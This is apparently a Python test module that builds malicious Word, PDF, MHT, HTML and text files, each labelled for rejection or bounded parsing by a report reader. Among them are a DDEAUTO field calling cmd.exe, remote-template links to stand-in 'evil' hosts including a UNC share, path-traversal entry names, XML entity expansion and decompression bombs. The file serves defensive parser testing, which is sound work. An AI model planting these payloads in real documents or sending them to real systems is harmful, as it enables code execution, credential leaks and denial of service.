"""Published reports to be turned away, or to be read within bounds: name → (code or None, file name, how it is made)."""

import io
import zlib
from functools import cache

from docx import Document

from tests.hostile import packages
from tests.hostile.packages import MEBI, with_part
from tests.rendering import text_of
from tests.samples import good_filing
from xl_tools.reporting.template.word_template import load
from xl_tools.reporting.word import render

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
SETTINGS = "word/_rels/settings.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
ENTITY = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
START = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'


@cache
def report():
    """A good Word report."""
    return render(good_filing(), load())


@cache
def text():
    return text_of(good_filing(), "A")


def part(name, content):
    return lambda: with_part(report(), name, content)


def related(kind, target, name=RELATIONS, mode=' TargetMode="External"'):
    link = f'<Relationship Id="r99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return part(name, lambda old: (old or START).replace(b"</Relationships>", link))


def body(change):
    return part(BODY, lambda old: change(old.decode()).encode())


def field_code(code):
    return body(lambda text: text.replace("<w:body>", f"<w:body><w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>", 1))


def page(inside):
    return lambda: f"<html><head><meta charset='utf-8'></head><body>{inside()}</body></html>".encode()  # noqa: PLW0108 - made only when it is needed


def big_docx():
    """A table of 300 rows by 300 columns."""
    document = Document()
    made = io.BytesIO()
    document.save(made)
    cell = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
    table = "<w:tbl>" + f"<w:tr>{cell * 300}</w:tr>" * 300 + "</w:tbl>"
    return with_part(made.getvalue(), BODY, lambda old: old.replace(b"<w:sectPr", table.encode() + b"<w:sectPr", 1))


def pdf(content, *others, pages=1):
    """A PDF of pages with the same packed `content`, and `others` as its objects from number 5 on."""
    packed = zlib.compress(content, 9)
    kids = b" ".join(b"%d 0 R" % at for at in range(100, 100 + pages))
    inner = b"/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
        4: b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed),
        **dict(enumerate(others, 5)),
        **dict.fromkeys(range(100, 100 + pages), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]%s>>" % inner),
    }
    return b"%PDF-1.5\n" + b"".join(b"%d 0 obj%s\nendobj\n" % thing for thing in objects.items()) + b"trailer<</Root 1 0 R>>"


def nested_forms():
    """Ten pictures in each of ten pictures, nine times over."""
    head = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A %d 0 R>>>>/Length 60>>stream\n%s\nendstream"
    return pdf(b"/A Do", *(head % (at + 1, b"/A Do " * 10) for at in range(5, 14)), head % (15, b"0 0 9 9 re f"))


def nested_parts(depth, kind="multipart/mixed; boundary=b"):
    start = "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n"
    return (start + f"--b\nContent-Type: {kind}\n\n" * depth + "--b\nContent-Type: text/html\n\n<p>1").encode()


def parted(depth):
    inside = "".join(f"--b{at}\nContent-Type: multipart/mixed; boundary=b{at + 1}\n\n" for at in range(depth))
    return ("MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b0\n\n" + inside).encode()


def started(more):
    """An archive whose page stands behind `more`."""
    return (
        f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b{more}\n\n--b\nContent-Type: text/html\n\n<p>1".encode()
    )


def styles(count):
    style = '<w:style w:type="paragraph" w:styleId="s{}"><w:basedOn w:val="s{}"/></w:style>'
    made = "".join(style.format(at, at + 1) for at in range(count)).encode()
    return part("word/styles.xml", lambda old: old.replace(b"</w:styles>", made + b"</w:styles>"))


def in_body(xml):
    return body(lambda text: text.replace("<w:body>", f"<w:body>{xml}", 1))


LINES = b"".join(b"0 %d m 600 %d l S %d 0 m %d 800 l S\n" % (at, at, at, at) for at in range(800))
BEGUN_LATE = "<w:tbl>" + '<w:tr><w:trPr><w:gridBefore w:val="200"/></w:trPr></w:tr>' * 2_000 + "</w:tbl>"
DOCUMENTS = {
    "文档压缩比过大": ("F-BOMB", "a.docx", part("word/media/a.xml", bytes(64 * MEBI))),
    "文档条目重叠": ("F-BOMB", "a.docx", lambda: packages.overlapping(report())),
    "文档条目上级目录": ("F-NAMES", "a.docx", lambda: packages.added(report(), "../../x.xml")),
    "文档条目重名": ("F-NAMES", "a.docx", lambda: packages.added(report(), BODY)),
    "文档定义": ("F-XML", "a.docx", part(BODY, lambda old: old.replace(b"<w:document", ENTITY + b"<w:document", 1))),
    "文档定义UTF16": ("F-XML", "a.docx", part("word/styles.xml", lambda _: ("<?xml version='1.0' encoding='UTF-16'?>" + ENTITY.decode() + "<a/>").encode("utf-16"))),
    "远程模板": ("F-EXTERNAL", "a.docx", related("attachedTemplate", "http://x/evil.dotm", SETTINGS)),
    "远程模板UNC": ("F-EXTERNAL", "a.docx", related("attachedTemplate", "\\\\evil\\share\\a.dotm", SETTINGS)),
    "远程模板file": ("F-EXTERNAL", "a.docx", related("attachedTemplate", "file://evil.example/share/a.dotm", SETTINGS)),
    "外部框架": ("F-EXTERNAL", "a.docx", related("frame", "http://x/a.html")),
    "外部对象": ("F-EXTERNAL", "a.docx", related("oleObject", "http://x/a.rtf")),
    "插入文件": ("F-EXTERNAL", "a.docx", related("aFChunk", "a.html", mode="")),
    "子文档": ("F-EXTERNAL", "a.docx", related("subDocument", "a.docx")),
    "动态数据交换域": ("F-EXTERNAL", "a.docx", field_code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "包含文本域": ("F-EXTERNAL", "a.docx", field_code(" INCLUDETEXT file.docx")),
    "文档宏": ("F-MACRO", "a.docx", part("word/vbaProject.bin", b"x")),
    "文档宏docm": ("F-MACRO", "a.docm", part("word/vbaProject.bin", b"x")),
    "文档嵌入对象": ("F-OBJECT", "a.docx", part("word/embeddings/oleObject1.bin", OLE)),
    "文档控件": ("F-OBJECT", "a.docx", part("word/activeX/activeX1.bin", b"x")),
    "文档加密": ("F-ENCRYPTED", "a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    "文档截断": ("F-BROKEN", "a.docx", lambda: report()[: len(report()) // 2]),
    "文档改动一个字节": ("F-BROKEN", "a.docx", lambda: packages.flipped(report(), 0.3)),
    "文档嵌套过深": ("F-BROKEN", "a.docx", body(lambda text: text.replace("<w:body>", "<w:body>" + "<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000, 1))),
    "空的文本": ("F-EMPTY", "a.txt", lambda: b"\n\n"),
    "无表的文本": ("F-NOT-REPORT", "a.txt", "这里没有表格。".encode),
    "文本行太多": ("F-LARGE", "a.txt", lambda: b"a\n" * 300_000),
    "二进制": ("F-NOT-REPORT", "a.txt", lambda: b"\x7fELF" + bytes(range(256)) * 20),
    "图片": ("F-NOT-REPORT", "a.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100)),
    "假的PDF": ("F-BROKEN", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(2_000)),
    "PDF流压缩比过大": ("F-BOMB", "a.pdf", lambda: pdf(bytes(40 * MEBI))),
    "PDF流重复压缩": ("F-BOMB", "a.pdf", lambda: pdf(zlib.compress(bytes(40 * MEBI)))),
    "PDF流太多": ("F-LARGE", "a.pdf", lambda: pdf(b"q") + b"stream\nendstream\n" * 60_000),
    "PDF图形逐层增多": ("F-BOMB", "a.pdf", nested_forms),
    "PDF文字太多": ("F-BOMB", "a.pdf", lambda: pdf(b"BT /F 9 Tf " + b"(aaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 200_000)),
    "PDF页数太多": ("F-BOMB", "a.pdf", lambda: pdf(b"q", pages=301)),
    "存档逐层套装": ("F-LARGE", "a.mht", lambda: parted(2_000)),
    "存档逐信套装": ("F-LARGE", "a.mht", lambda: nested_parts(2_000, "message/rfc822")),
    "存档部分太多": ("F-LARGE", "a.mht", lambda: nested_parts(6_000, "text/plain")),
    "存档参数太多": ("F-LARGE", "a.mht", lambda: started("; a*1=x" * 100_000)),
    "存档行太多": ("F-LARGE", "a.mht", lambda: started("\na: b" * 400_000)),
    "网页表格套表格": ("F-LARGE", "a.html", page(lambda: "<p>本机关依法公开了各类政府信息，没有其他需要报告的事项。" + "<table><tr><td>1" * 3_000 + "</td></tr></table>" * 3_000)),
    "网页跨行过多": ("F-LARGE", "a.html", page(lambda: "<table><tr>" + "<td rowspan=200>1" * 200 + "<tr><td rowspan=200>1" * 20_000)),
    "网页编号太多": ("F-LARGE", "a.html", page(lambda: "<ol>" + "<li>1" * 100_000)),
    "文档样式太多": ("F-LARGE", "a.docx", styles(6_000)),
    "文档空列太多": ("F-LARGE", "a.docx", in_body(BEGUN_LATE)),
    "网页太大": ("F-BOMB", "a.html", lambda: b"<html><body>" + b"<p>x</p>" * (3 * MEBI) + b"</body></html>"),
    "文本太大": ("F-BOMB", "a.txt", lambda: "长".encode() * (3 * MEBI)),
}  # fmt: skip
BOUNDED = {
    "PDF图形逐层增多": ("a.pdf", nested_forms),
    "PDF文字太多": ("a.pdf", lambda: pdf(b"BT /F 9 Tf " + b"(aaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 200_000)),
    "PDF流重复压缩": ("a.pdf", lambda: pdf(zlib.compress(bytes(400 * MEBI)))),
    "PDF每页都费时": ("a.pdf", lambda: pdf(b"q Q " * 5_000_000, pages=300)),
    "PDF线条很密": ("a.pdf", lambda: pdf(b"BT /F 9 Tf (" + b"a" * 99 + b") Tj ET " + LINES)),
    "存档参数太多": ("a.mht", lambda: started("; a*1=x" * 1_000_000)),
    "网页跨行过多": ("a.html", page(lambda: "<table><tr>" + "<td rowspan=200>1" * 200 + "<tr><td rowspan=200>1" * 60_000)),
    "网页编号太多": ("a.html", page(lambda: "<ol type=I start=999999999>" + "<li>1" * 150_000)),
    "数字极长": ("a.html", page(lambda: "<ol start=" + "9" * 5_000 + "><li>1</ol><table><tr><td colspan=" + "9" * 5_000 + ">1</table>" + text())),
    "文档样式太多": ("a.docx", styles(20_000)),
    "文档样式相继": ("a.docx", styles(4_900)),
    "文档数字极长": ("a.docx", in_body(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{"9" * 5_000}"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>')),
    "文档表格套表格": ("a.docx", in_body("<w:tbl><w:tr><w:tc>" * 80 + "<w:p/></w:tc></w:tr></w:tbl>" * 80)),
    "跨列过大": ("a.html", page(lambda: "<table>" + "<tr><td colspan=99999999 rowspan=99999999>1</td><td>2</td></tr>" * 200 + "</table>" + text())),
    "百万单元格": ("a.html", page(lambda: "<table>" + ("<tr>" + "<td>1" * 1_000) * 1_000 + "</table>")),
    "网页嵌套过深": ("a.html", page(lambda: "<div>" * 100_000 + "1" + "<table><tr><td>" * 3_000)),
    "网页不收尾": ("a.html", lambda: b"<html><body><table><tr><td" * 20_000),
    "注释不收尾": ("a.html", lambda: b"<html><!--" + b"<!--" * 200_000),
    "花括号不收尾": ("a.txt", lambda: text().encode() + "\n六、其他需要报告的事项\n".encode() + b"{" * 120_000),
    "列举很多": ("a.txt", lambda: text().encode() + ("公开2条" + "，其中甲1条" * 20_000 + "。").encode()),
    "申请列举很多": ("a.txt", lambda: text().encode() + ("收到申请2件，" + "其中自然人1件，" * 16_000 + "。").encode()),
    "大表格": ("a.docx", big_docx),
    "一行很长": ("a.txt", ("一、" + "（一）" * 200_000).encode),
    "全是数字": ("a.txt", ("1 " * 300_000).encode),
    "全是竖线": ("a.md", lambda: ("|" * 2_000 + "\n").encode() * 500),
    "空格很多": ("a.txt", lambda: text().encode().replace(b"\n", b"\n" + b" " * 3_000)),
    "括号很多": ("a.txt", lambda: text().encode() + b"(" * 100_000 + b")" * 100_000),
}  # fmt: skip
"""Costly where they are read carelessly; whether anything is found in them does not matter."""
